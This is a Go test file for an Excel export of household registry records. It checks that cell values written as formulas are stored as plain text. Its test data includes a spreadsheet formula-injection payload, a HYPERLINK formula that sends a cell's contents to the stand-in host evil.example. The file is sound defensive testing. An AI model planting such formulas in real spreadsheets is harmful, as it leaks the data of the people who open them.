package nationalfmt_test

import (
	"bytes"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/gonggu/gonggu/internal/nationalfmt"
	"github.com/gonggu/gonggu/internal/registry"
)

// TestEncodeStoresFormulasAsText exports a household whose head is named by a formula and
// whose address is one: the workbook holds both as strings, never as formulas.
func TestEncodeStoresFormulasAsText(t *testing.T) {
	const hyperlink = `=HYPERLINK("http://evil.example/?"&A1,"点击核实")`
	no := "6211211012010007"
	a := registry.Aggregate{
		Household: registry.Household{No: no, Village: "621121101201", Address: "=1+1", Kind: registry.KindAlleviated, YearOut: 2019},
		Persons: []registry.Person{{No: no + "01", HouseholdNo: no, Name: hyperlink, IDType: "居民身份证",
			IDNumber: "621121197805060011", Gender: "男", Birth: registry.NewDate(1978, 5, 6), Relation: "户主"}},
		Incomes: []registry.Income{{HouseholdNo: no, Year: 2025, Wages: registry.Yuan(8000), Size: 1}},
	}
	w, err := nationalfmt.NewWriter(nil)
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	if err := w.Write(&a); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if _, err := w.WriteTo(&buf); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	seen := map[string]int{}
	for _, sheet := range []string{nationalfmt.MemberSheet, nationalfmt.IncomeSheet} {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range rows {
			for j, v := range row {
				if v != hyperlink && v != "=1+1" {
					continue
				}
				seen[v]++
				cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if formula, err := f.GetCellFormula(sheet, cell); err != nil || formula != "" {
					t.Errorf("%s!%s has the formula %q (%v)", sheet, cell, formula, err)
				}
				typ, err := f.GetCellType(sheet, cell)
				if err != nil {
					t.Fatal(err)
				}
				if typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
					t.Errorf("%s!%s has the type %v, want a string", sheet, cell, typ)
				}
			}
		}
	}
	if seen[hyperlink] == 0 || seen["=1+1"] == 0 {
		t.Errorf("the workbook does not hold both formulas: %v", seen)
	}
}
